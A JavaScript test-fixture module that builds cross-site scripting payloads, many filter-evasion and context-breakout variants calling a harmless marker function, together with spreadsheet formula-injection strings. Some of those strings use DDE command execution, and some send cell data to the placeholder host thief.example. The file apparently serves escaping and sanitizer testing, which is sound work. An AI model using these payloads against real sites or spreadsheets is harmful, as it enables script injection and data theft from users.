// Texts that would run as a script where somebody forgot to escape, and texts that a spreadsheet
// would take for a formula. Each of the first calls ran(its number) when it runs.

const calls = (n) => `ran(${n})`;

// Forms in which markup gets out of the place it was put in, around a thing that runs.
const ways = [
    (inner) => inner,
    (inner) => `">${inner}`,
    (inner) => `'>${inner}`,
    (inner) => `</td></tr></table>${inner}`,
    (inner) => `</textarea></title></style>${inner}`,
    (inner) => `-->${inner}<!--`,
    (inner) => `欧阳${inner}㛃`,
    (inner) => `\u202e${inner}`,
    (inner) => `]]>${inner}`,
    (inner) => `\${\`${inner}\`}`,
];

const runs = [
    (n) => `<script>${calls(n)}</script>`,
    (n) => `<ScRiPt >${calls(n)}</sCrIpT >`,
    (n) => `<script src="data:text/javascript,${calls(n)}"></script>`,
    (n) => `<img src=x onerror=${calls(n)}>`,
    (n) => `<img src=x onerror="${calls(n)}">`,
    (n) => `<img/src='x'/onerror='${calls(n)}'>`,
    (n) => `<svg onload=${calls(n)}>`,
    (n) => `<svg><script>${calls(n)}</script></svg>`,
    (n) => `<svg><animate onbegin=${calls(n)} attributeName=x dur=1s>`,
    (n) => `<body onload=${calls(n)}>`,
    (n) => `<iframe srcdoc="<script>parent.${calls(n)}</script>">`,
    (n) => `<iframe src="javascript:parent.${calls(n)}">`,
    (n) => `<a href="javascript:${calls(n)}" autofocus onfocus=${calls(n)}>x</a>`,
    (n) => `<input autofocus onfocus=${calls(n)}>`,
    (n) => `<details open ontoggle=${calls(n)}>`,
    (n) => `<video><source onerror=${calls(n)}></video>`,
    (n) => `<audio src=x onerror=${calls(n)}>`,
    (n) => `<marquee onstart=${calls(n)}>x</marquee>`,
    (n) => `<object data="javascript:${calls(n)}"></object>`,
    (n) => `<embed src="javascript:${calls(n)}">`,
    (n) => `<form action="javascript:${calls(n)}"><button autofocus onfocus=${calls(n)}>x</form>`,
    (n) => `<math><mtext><img src=x onerror=${calls(n)}></mtext></math>`,
    (n) => `<style>@import "javascript:${calls(n)}";*{animation:a}</style><b onanimationstart=${calls(n)}>`,
    (n) => `<select autofocus onfocus=${calls(n)}>`,
    (n) => `<meta http-equiv=refresh content="0;url=javascript:${calls(n)}">`,
    (n) => `<base href="//127.0.0.1:1/"><img src=x onerror=${calls(n)}>`,
    (n) => `<template><script>${calls(n)}</script></template><img src onerror=${calls(n)}>`,
    (n) => `&lt;img src=x onerror=${calls(n)}&gt;`,
    (n) => `&#60;script&#62;${calls(n)}&#60;/script&#62;`,
    (n) => `%3Cscript%3E${calls(n)}%3C/script%3E`,
    (n) => `\\u003cscript\\u003e${calls(n)}\\u003c/script\\u003e`,
    (n) => `javascript:${calls(n)}`,
    (n) => `" onmouseover="${calls(n)}" autofocus onfocus="${calls(n)}`,
    (n) => `' onmouseover='${calls(n)}' autofocus onfocus='${calls(n)}`,
    (n) => `"};${calls(n)};//`,
    (n) => `');${calls(n)};//`,
    (n) => `\n${calls(n)}\n//`,
    (n) => `*/${calls(n)}/*`,
    (n) => `{{constructor.constructor('${calls(n)}')()}}`,
    (n) => `\${${calls(n)}}`,
    (n) => `<%= ${calls(n)} %>`,
    (n) => `<noscript><p title="</noscript><img src=x onerror=${calls(n)}>">`,
    (n) => `<img src=x:alert(alt) onerror=eval(alt) alt=${calls(n)}>`,
    (n) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${calls(n)}'/></svg>#x"/>`,
    (n) => `<table background="javascript:${calls(n)}">`,
    (n) => `<div style="background:url(javascript:${calls(n)})" onclick=${calls(n)}>x</div>`,
    (n) => `<keygen autofocus onfocus=${calls(n)}>`,
    (n) => `<dialog open onfocusin=${calls(n)}><button autofocus>x</button></dialog>`,
    (n) => `<xss onpointerrawupdate=${calls(n)} tabindex=1 id=x autofocus onfocus=${calls(n)}>`,
    (n) => `<link rel=stylesheet href=x onerror=${calls(n)}>`,
];

export const scripts = ways.flatMap((way, w) =>
    runs.map((run, r) => way(run(w * runs.length + r))),
);

const signs = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "|", "＝", "＋", "－", "＠"];
const formulas = [
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://thief.example/?"&A2,"看")',
    'IMPORTXML("https://thief.example","//a")',
    "2+5+cmd|' /C calc'!A0",
    'WEBSERVICE("https://thief.example/"&B2)',
    'DDE("cmd";"/C calc";"x")',
    "A1)*IF(1,1",
];

export const formulaTexts = formulas
    .flatMap((formula) => signs.map((sign) => sign + formula))
    .slice(0, 100);
